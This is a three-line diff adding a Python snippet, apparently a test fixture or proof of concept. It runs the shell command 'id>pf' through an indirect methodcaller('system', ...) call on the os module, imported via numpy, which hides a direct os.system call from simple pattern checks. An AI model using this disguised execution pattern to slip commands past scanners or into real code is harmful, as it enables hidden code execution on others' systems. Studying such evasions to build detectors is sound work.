@@ -1,0 +1,3 @@
+import os
+from numpy.lib.npyio import methodcaller
+methodcaller("system", "id>pf")(os)
